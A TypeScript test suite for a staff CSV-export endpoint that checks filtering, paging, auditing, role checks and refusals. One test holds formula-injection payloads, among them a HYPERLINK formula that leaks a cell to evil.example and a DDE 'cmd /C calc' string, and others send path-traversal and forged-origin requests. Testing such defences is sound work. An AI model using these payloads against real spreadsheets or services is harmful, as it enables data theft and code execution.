// staffExport over HTTP, against the database emulator and firebase-tools' Auth emulator: the file a
// staff member downloads for a filtered list, and each refusal tested as the attack it stops (no
// token, a customer, a removed staff member, support asking for the audit log, a forged list path,
// formula injection, a huge body, a search made of the index's own separators).
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { KEY_RANGE_END, KEY_SEPARATOR, submissionIndex } from '../../../src/data/list-index';
import { STAFF_AUDIT_PATH, STAFF_ROLES_PATH, type StaffAuditEntry } from '../../../src/data/staff';
import { EXPORT_CONTENT_TYPE, type ExportRequest } from '../../../src/data/staff-export';
import { read } from '../testing/backends.testing';
import { STAFF_ONLY } from './claims';

import { EXPORT_PAGE_SIZE, exportNotAllowed, handleStaffExport, type ExportDependencies } from './export';
import { STAFF_MAX_BODY_BYTES } from './handler';
import { SITE, useStaffHarness } from './staff.testing';
import { csvRecords, measureExportThroughput, parseCsv } from '../../../scripts/bench/export-throughput';

const harness = useStaffHarness('staff-export');
const NOW = Date.UTC(2026, 10, 29, 15, 0, 0);
let url = '';
let pages: number[] = [];
const deps = {} as ExportDependencies;

beforeAll(async () => {
  Object.assign(deps, {
    auth: harness.auth,
    database: harness.database,
    siteOrigins: [SITE],
    now: () => NOW,
    onPage: (rows: number) => pages.push(rows),
  });
  url = await harness.servers.serve('staffExport', (request, response) => handleStaffExport(request, response, deps));
});
beforeEach(() => {
  pages = [];
  delete deps.pageSize;
});

interface Download {
  status: number;
  headers: Headers;
  text: string;
}

async function download(token: string | null, body: unknown, headers: Record<string, string> = {}): Promise<Download> {
  const response = await fetch(url, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', ...(token === null ? {} : { Authorization: `Bearer ${token}` }), ...headers },
    body: JSON.stringify(body),
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const errorOf = (answer: Download) => (JSON.parse(answer.text) as { error: { message: string; field?: string } }).error;

async function auditEntries(): Promise<StaffAuditEntry[]> {
  return Object.values((await read<Record<string, StaffAuditEntry>>(harness.database, STAFF_AUDIT_PATH)) ?? {});
}

type Kind = 'contact' | 'waitlist' | 'preorder';
interface Person {
  id: string;
  name: string;
  email: string;
  status?: string;
  programme?: string;
  at?: number;
  fields?: Record<string, unknown>;
}

/** Submissions as the server stores them from now on: the visitor's fields, the state and the six
 *  index fields of src/data/list-index.ts. */
async function store(kind: Kind, people: Person[]): Promise<void> {
  const first = kind === 'preorder' ? 'pending' : 'new';
  const updates: Record<string, unknown> = {};
  for (const { id, name, email, status = first, programme, at = NOW, fields = {} } of people) {
    const sent =
      kind === 'contact'
        ? { name, email, phone: '+1 555 0100', city: 'London', message: 'Hello', createdAt: at, page: '/contact' }
        : { full__name: name, email, createdAt: at, page: `/${kind}`, ...(programme ? { programme } : {}) };
    updates[`submissions/${kind}/${id}`] = { ...sent, status, ...submissionIndex({ kind, programme, status, email, name }), ...fields };
  }
  await harness.database.ref().update(updates);
}

const inquiries: Person[] = [
  { id: 'c01', name: 'Ada Lovelace', email: 'ada@example.com', at: NOW - 5000 },
  { id: 'c02', name: 'Adam Smith', email: 'adam@example.com', status: 'answered', at: NOW - 4000 },
  { id: 'c03', name: 'Grace Hopper', email: 'grace@example.com', at: NOW - 3000 },
  { id: 'c04', name: 'Adèle Blanc', email: 'adele@example.com', at: NOW - 2000 },
  { id: 'c05', name: 'Alan Turing', email: 'ada.t@example.com', status: 'archived', at: NOW - 1000 },
];

describe('the file', () => {
  it('a state and a search give exactly the matching rows, in the list’s order, as a dated UTF-8 attachment', async () => {
    const support = await harness.account({ role: 'support' });
    await store('contact', inquiries);
    const newAda = await download(support.token, { list: 'contact', status: 'new', search: ' AD', sort: 'newest' });
    expect(newAda.status).toBe(200);
    expect(newAda.headers.get('content-type')).toBe(EXPORT_CONTENT_TYPE);
    expect(newAda.headers.get('content-disposition')).toBe('attachment; filename="contact-2026-11-29.csv"');
    expect(newAda.headers.get('cache-control')).toBe('no-store');
    const fromSite = await download(support.token, { list: 'contact' }, { Origin: SITE });
    expect([fromSite.headers.get('access-control-allow-origin'), fromSite.headers.get('access-control-expose-headers')]).toEqual([
      SITE,
      'Content-Disposition',
    ]);
    // "ad" by name among the new ones, in the name's order: Ada and Adèle, not Adam (answered).
    const rows = csvRecords(newAda.text);
    expect(rows.map((row) => row.id)).toEqual(['c01', 'c04']);
    expect(rows[0]).toEqual({
      id: 'c01',
      receivedAt: new Date(NOW - 5000).toISOString(),
      status: 'new',
      name: 'Ada Lovelace',
      email: 'ada@example.com',
      phone: "'+1 555 0100",
      city: 'London',
      message: 'Hello',
      page: '/contact',
      statusChangedAt: '',
      repliedAt: '',
      repliedBy: '',
    });

    const byName = await download(support.token, { list: 'contact', search: 'ad', sort: 'name' });
    expect(csvRecords(byName.text).map((row) => row.name)).toEqual(['Ada Lovelace', 'Adam Smith', 'Adèle Blanc']);
    const accents = await download(support.token, { list: 'contact', search: 'ADÈ' });
    expect(csvRecords(accents.text).map((row) => row.id)).toEqual(['c04']);
    const emailSearch = await download(support.token, { list: 'contact', search: 'Ada.T@' });
    expect(csvRecords(emailSearch.text).map((row) => row.id)).toEqual(['c05']);
    const all = await download(support.token, { list: 'contact' });
    expect(csvRecords(all.text).map((row) => row.id)).toEqual(['c05', 'c04', 'c03', 'c02', 'c01']);
    const oldest = await download(support.token, { list: 'contact', status: 'new', sort: 'oldest' });
    expect(csvRecords(oldest.text).map((row) => row.id)).toEqual(['c01', 'c03', 'c04']);
  });

  it('each list has its own records: a waitlist by programme, pre-orders, customers, the audit log for an admin', async () => {
    const admin = await harness.account({ role: 'admin' });
    await store('waitlist', [
      { id: 'w1', name: 'Open One', email: 'one@example.com' },
      { id: 'w2', name: 'Builder Two', email: 'two@example.com', programme: 'builder', status: 'contacted' },
    ]);
    await store('preorder', [
      { id: 'p1', name: 'Pre Order', email: 'pre@example.com', fields: { pass: { code: 'SECRET', issuedAt: NOW } } },
    ]);
    await harness.database.ref('customer_index').set({
      u1: { name: 'Zoë Quinn', email: 'zoe@example.com', at: NOW - 10, e: 'zoe@example.com', n: 'zoe quinn' },
      u2: { name: 'Bob Ray', email: 'bob@example.com', at: NOW - 5, e: 'bob@example.com', n: 'bob ray' },
    });
    const builder = csvRecords((await download(admin.token, { list: 'builder' })).text);
    expect(builder).toEqual([expect.objectContaining({ id: 'w2', programme: 'builder', status: 'contacted', name: 'Builder Two' })]);
    expect(csvRecords((await download(admin.token, { list: 'open-access' })).text).map((row) => row.id)).toEqual(['w1']);
    const preorders = await download(admin.token, { list: 'preorder' });
    expect(csvRecords(preorders.text)).toEqual([
      expect.objectContaining({ id: 'p1', status: 'pending', passIssuedAt: new Date(NOW).toISOString() }),
    ]);
    expect(preorders.text).not.toContain('SECRET');
    const customers = csvRecords((await download(admin.token, { list: 'customers', sort: 'name' })).text);
    expect(customers).toEqual([
      { uid: 'u2', createdAt: new Date(NOW - 5).toISOString(), name: 'Bob Ray', email: 'bob@example.com' },
      { uid: 'u1', createdAt: new Date(NOW - 10).toISOString(), name: 'Zoë Quinn', email: 'zoe@example.com' },
    ]);
    expect(csvRecords((await download(admin.token, { list: 'customers', search: 'zo' })).text).map((row) => row.uid)).toEqual(['u1']);
    // Every export is in the log, this one first (it was recorded before it was read).
    const audit = csvRecords((await download(admin.token, { list: 'audit', status: 'exportList' })).text);
    expect(audit.map((row) => [row.action, row.actorEmail, row.target])).toEqual([
      ['exportList', admin.email, 'staff_audit'],
      ['exportList', admin.email, 'customer_index'],
      ['exportList', admin.email, 'customer_index'],
      ['exportList', admin.email, 'submissions/preorder'],
      ['exportList', admin.email, 'submissions/waitlist'],
      ['exportList', admin.email, 'submissions/waitlist'],
    ]);
  });

  it('streams a list of 5,000 in pages of a thousand, every row once, newest first', async () => {
    const support = await harness.account({ role: 'support' });
    const people = Array.from({ length: 5000 }, (_, i) => ({
      id: `w${String(i).padStart(5, '0')}`,
      name: `Person ${i}`,
      email: `p${i}@example.com`,
    }));
    await store('waitlist', people);
    const measured = await measureExportThroughput({
      functionsUrl: url,
      direct: true,
      idToken: support.token,
      request: { list: 'open-access' },
    });
    // Read and written a page at a time, and received in pieces as it was written.
    expect(pages).toEqual([1000, 1000, 1000, 1000, 1000]);
    expect(EXPORT_PAGE_SIZE).toBe(1000);
    expect(measured.rows).toBe(5000);
    expect(measured.chunks).toBeGreaterThan(1);
    expect(measured.firstByteMs).toBeLessThan(measured.totalMs);
    const answer = await download(support.token, { list: 'open-access' });
    // No length up front: the file is sent as it is read.
    expect([answer.headers.get('transfer-encoding'), answer.headers.get('content-length')]).toEqual(['chunked', null]);
    const ids = csvRecords(answer.text).map((row) => row.id);
    expect(ids).toEqual(people.map((person) => person.id).reverse());
  });

  it('pages by (value, key) through a name order with ties, so no row repeats or goes missing', async () => {
    const support = await harness.account({ role: 'support' });
    deps.pageSize = 2;
    await store(
      'contact',
      ['e', 'a', 'c', 'b', 'd'].map((letter) => ({ id: `same-${letter}`, name: 'Same Name', email: `${letter}@example.com` })),
    );
    const answer = await download(support.token, { list: 'contact', sort: 'name' });
    expect(csvRecords(answer.text).map((row) => row.id)).toEqual(['same-a', 'same-b', 'same-c', 'same-d', 'same-e']);
    expect(pages).toEqual([2, 2, 1]);
  });

  it('formula injection: what a visitor typed that a spreadsheet would run is shown as text', async () => {
    const support = await harness.account({ role: 'support' });
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      city: "@SUM(1+1)*cmd|' /C calc'!A0",
      message: '-2+3\r\n=cmd, "quoted", and more',
    };
    await store('contact', [
      { id: 'c1', name: hostile.name, email: 'x@example.com', fields: { city: hostile.city, message: hostile.message } },
    ]);
    await store('waitlist', [{ id: 'w1', name: '+1+1', email: 'y@example.com' }]);
    const contact = await download(support.token, { list: 'contact' });
    const [row] = csvRecords(contact.text);
    expect(row).toMatchObject({ name: `'${hostile.name}`, city: `'${hostile.city}`, message: `'${hostile.message}` });
    // No cell of the file starts with a formula character.
    for (const cells of parseCsv(contact.text)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csvRecords((await download(support.token, { list: 'open-access' })).text)[0]!.name).toBe("'+1+1");
  });

  it('a search made of the index’s separators stays within the list and state asked for', async () => {
    const support = await harness.account({ role: 'support' });
    await store('contact', inquiries);
    for (const search of [
      KEY_RANGE_END,
      `${KEY_SEPARATOR}answered${KEY_SEPARATOR}`,
      `ada${KEY_RANGE_END}`,
      `${KEY_RANGE_END}@`,
      `@${KEY_SEPARATOR}`,
    ]) {
      const answer = await download(support.token, { list: 'contact', status: 'new', search });
      expect(answer.status, search).toBe(200);
      const rows = csvRecords(answer.text);
      expect(
        rows.every((row) => row.status === 'new'),
        search,
      ).toBe(true);
    }
    await store('waitlist', [{ id: 'w1', name: 'Ada Waitlist', email: 'ada-w@example.com' }]);
    const escaping = await download(support.token, { list: 'contact', search: `${KEY_RANGE_END}${KEY_SEPARATOR}open-access` });
    expect(csvRecords(escaping.text).map((row) => row.id)).not.toContain('w1');
  });

  it('is audited before the first byte: a download cut off midway is on record', async () => {
    const support = await harness.account({ role: 'support' });
    await store('contact', inquiries);
    const controller = new AbortController();
    const response = await fetch(url, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${support.token}` },
      body: JSON.stringify({ list: 'contact', status: 'new', search: 'ada' } satisfies ExportRequest),
      signal: controller.signal,
    });
    expect(response.status).toBe(200);
    controller.abort();
    expect(await auditEntries()).toEqual([
      {
        actorUid: support.uid,
        actorEmail: support.email,
        role: 'support',
        action: 'exportList',
        target: 'submissions/contact',
        at: NOW,
        detail: 'list=contact status=new sort=newest search="ada"',
      },
    ]);
  });
});

describe('who may export, and what', () => {
  it('401 without a token or with a forged one; 403 for a customer and for a removed staff member whose token still says admin', async () => {
    await store('contact', inquiries);
    const customer = await harness.account();
    const admin = await harness.account({ role: 'admin' });
    for (const token of [null, 'not-a-token']) expect((await download(token, { list: 'contact' })).status).toBe(401);
    const asCustomer = await download(customer.token, { list: 'contact' });
    expect([asCustomer.status, errorOf(asCustomer).message]).toEqual([403, STAFF_ONLY]);
    await harness.database.ref(`${STAFF_ROLES_PATH}/${admin.uid}`).remove();
    const removed = await download(admin.token, { list: 'contact' });
    expect([removed.status, errorOf(removed).message]).toEqual([403, STAFF_ONLY]);
    expect(removed.text).not.toContain('ada@example.com');
    expect(await auditEntries()).toEqual([]);
  });

  it('403 for support asking for the audit log, which holds who did what', async () => {
    const support = await harness.account({ role: 'support' });
    const answer = await download(support.token, { list: 'audit' });
    expect([answer.status, errorOf(answer).message]).toEqual([403, exportNotAllowed('audit')]);
    expect(exportNotAllowed('audit')).toBe('Exporting the audit list is for Leopard admins.');
    expect(await auditEntries()).toEqual([]);
  });

  it('400 naming the field for a forged list path, an unknown state or order; 413 for a huge body; 405 for GET', async () => {
    const admin = await harness.account({ role: 'admin' });
    const cases: [Record<string, unknown>, string][] = [
      [{ list: '../users' }, 'list'],
      [{ list: 'submissions/contact' }, 'list'],
      [{ list: 'users' }, 'list'],
      [{ list: 'contact', status: 'contacted' }, 'status'],
      [{ list: 'contact', status: { '.sv': 'timestamp' } }, 'status'],
      [{ list: 'open-access', sort: 'priority' }, 'sort'],
      [{ list: 'audit', sort: 'name' }, 'sort'],
      [{ list: 'audit', search: 'someone' }, 'search'],
      [{ list: 'customers', status: 'new' }, 'status'],
      [{ list: 'contact', search: 'x'.repeat(101) }, 'search'],
      [{ list: 'contact', search: ['a'] }, 'search'],
    ];
    for (const [body, field] of cases) {
      const answer = await download(admin.token, body);
      expect([answer.status, errorOf(answer).field], JSON.stringify(body)).toEqual([400, field]);
    }
    expect((await download(admin.token, ['contact'])).status).toBe(400);
    const huge = await download(admin.token, { list: 'contact', padding: 'x'.repeat(STAFF_MAX_BODY_BYTES * 10) });
    expect(huge.status).toBe(413);
    const get = await fetch(url, { headers: { Authorization: `Bearer ${admin.token}` } });
    expect(get.status).toBe(405);
    const elsewhere = await download(admin.token, { list: 'contact' }, { Origin: 'https://evil.example' });
    expect(elsewhere.status).toBe(403);
    expect(await auditEntries()).toEqual([]);
  });
});
